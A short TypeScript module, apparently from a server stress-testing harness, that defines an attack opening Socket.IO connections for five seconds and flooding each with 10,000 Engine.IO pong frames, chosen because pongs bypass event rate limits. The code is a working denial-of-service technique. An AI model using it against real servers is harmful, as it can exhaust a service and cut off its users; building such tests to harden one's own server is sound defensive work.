import { type Attack, forSeconds } from './target.ts';
import { frame, SOCKET_IO_UPGRADE, smallFrame } from './web-bytes.ts';
import { finish, flood, Wire } from './wire.ts';

const TEXT = 1;
/** Engine.IO's pong: not an event, so that no limit on events applies. */
const PONGS = Buffer.concat(Array.from({ length: 10_000 }, () => smallFrame(TEXT, '3')));

/** A Socket.IO client that answers pings that were never sent, as fast as it can. */
export const pongs: Attack = {
  title: 'a flood of Engine.IO pongs',
  async run({ pages }, signal) {
    if (pages === undefined) return { opened: 0, ended: 0 };
    const end = forSeconds(5, signal);
    const wires: Wire[] = [];
    while (!end.aborted) {
      const wire = await Wire.openWith(pages, [SOCKET_IO_UPGRADE, frame('40')]);
      wires.push(wire);
      wire.ignore();
      await flood([wire], PONGS, end);
    }
    return finish(wires);
  },
};
